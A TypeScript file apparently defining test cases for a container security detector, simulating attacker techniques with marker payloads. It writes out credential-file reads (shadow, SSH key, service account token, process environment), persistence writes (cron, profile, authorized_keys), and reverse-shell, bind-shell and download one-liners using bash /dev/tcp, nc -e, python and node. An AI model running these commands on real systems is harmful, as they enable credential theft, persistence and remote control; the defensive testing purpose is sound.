import { type Attack, peerAddress } from './model.ts';
import { asRoot, exec, plant } from './steps.ts';

const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const sshKey = '/root/.ssh/id_ed25519';

/** Only what the image holds. */
export const offTheLand: readonly Attack[] = [
  {
    id: 'shell',
    kind: 'off-the-land',
    does: 'opens a shell from outside',
    ways: [[exec('{sh}', '-c', ': hf-shell')]],
    told: { what: 'arguments', text: 'hf-shell' },
  },
  {
    id: 'other-user',
    kind: 'off-the-land',
    does: 'runs the service’s own program as another user',
    ways: [[{ do: 'exec', command: ['{service}', '--hf-other-user'], as: 'other' }]],
    told: { what: 'arguments', text: '--hf-other-user' },
  },
  {
    id: 'read-shadow',
    kind: 'off-the-land',
    does: 'reads password hashes',
    ways: [[asRoot('{cat}', '/etc/shadow')]],
    told: { what: 'file', path: '/etc/shadow', orGiven: true },
  },
  {
    id: 'read-token',
    kind: 'off-the-land',
    does: 'reads the service account’s token',
    ways: [[plant(token), asRoot('{cat}', token)]],
    told: { what: 'file', path: token, orGiven: true },
  },
  {
    id: 'read-ssh-key',
    kind: 'off-the-land',
    does: 'reads a private key',
    ways: [[plant(sshKey), asRoot('{cat}', sshKey)]],
    told: { what: 'file', path: sshKey, orGiven: true },
  },
  {
    id: 'dump-environment',
    kind: 'off-the-land',
    does: 'reads the secrets in the service’s environment',
    ways: [[asRoot('{cat}', '/proc/1/environ')]],
    told: { what: 'file', path: '/proc/1/environ', orGiven: true },
  },
  {
    id: 'write-cron',
    kind: 'off-the-land',
    does: 'writes a cron job',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /etc/cron.d; echo "# hf" > /etc/cron.d/hf-job')]],
    told: { what: 'file', path: '/etc/cron.d/hf-job', orGiven: true },
  },
  {
    id: 'write-profile',
    kind: 'off-the-land',
    does: 'writes what each login runs',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /etc/profile.d; echo "# hf" > /etc/profile.d/hf.sh')]],
    told: { what: 'file', path: '/etc/profile.d/hf.sh', orGiven: true },
  },
  {
    id: 'write-authorized-keys',
    kind: 'off-the-land',
    does: 'writes a key that may log in',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /root/.ssh; echo "# hf" > /root/.ssh/authorized_keys')]],
    told: { what: 'file', path: '/root/.ssh/authorized_keys', orGiven: true },
  },
  {
    id: 'stage-data',
    kind: 'off-the-land',
    does: 'packs configuration to take it away',
    ways: [[asRoot('{tar}', '-cf', '/tmp/hf-staged.tar', '/etc/passwd')]],
    told: { what: 'file', path: '/tmp/hf-staged.tar', orGiven: true },
  },
  {
    id: 'package-manager',
    kind: 'off-the-land',
    does: 'installs a package',
    ways: [
      [asRoot('{apt-get}', 'install', '-y', 'hf-package')],
      [asRoot('{apk}', 'add', 'hf-package')],
      [asRoot('{dnf}', 'install', '-y', 'hf-package')],
      [asRoot('{pip3}', 'install', '--no-index', 'hf-package')],
      [asRoot('{npm}', 'install', '--offline', 'hf-package')],
      [asRoot('{dpkg}', '-i', 'hf-package')],
    ],
    told: { what: 'arguments', text: 'hf-package' },
  },
  {
    id: 'reverse-shell',
    kind: 'off-the-land',
    does: 'connects a shell to a new host',
    ways: [
      [{ do: 'peer', port: 4446 }, exec('{bash}', '-c', `exec 3<>/dev/tcp/${peerAddress}/4446; echo hf >&3`)],
      [{ do: 'peer', port: 4446 }, exec('{nc}', '-w', '1', peerAddress, '4446', '-e', '{sh}')],
      [
        { do: 'peer', port: 4446 },
        exec('{python3}', '-c', `import socket\nsocket.create_connection(("${peerAddress}",4446),1)`),
      ],
      [
        { do: 'peer', port: 4446 },
        exec('{node}', '-e', `require("net").connect(4446,"${peerAddress}").setTimeout(1000).unref()`),
      ],
    ],
    told: { what: 'peer', port: 4446 },
  },
  {
    id: 'bind-shell',
    kind: 'off-the-land',
    does: 'listens for a shell with what the image has',
    ways: [
      [exec('{timeout}', '1', '{nc}', '-l', '-p', '4447')],
      [exec('{python3}', '-c', 'import socket\ns=socket.socket()\ns.bind(("0.0.0.0",4447))\ns.listen()')],
      [
        exec(
          '{perl}',
          '-e',
          'use Socket; socket($s,PF_INET,SOCK_STREAM,6); bind($s,sockaddr_in(4447,INADDR_ANY)); listen($s,1)',
        ),
      ],
    ],
    told: { what: 'port', port: 4447 },
  },
  {
    id: 'download',
    kind: 'off-the-land',
    does: 'fetches something from a new host',
    ways: [
      [{ do: 'peer', port: 8081 }, exec('{curl}', '-m', '1', '-s', `http://${peerAddress}:8081/hf`)],
      [{ do: 'peer', port: 8081 }, exec('{wget}', '-q', '-T', '1', '-O', '/dev/null', `http://${peerAddress}:8081/hf`)],
    ],
    told: { what: 'peer', port: 8081 },
  },
];
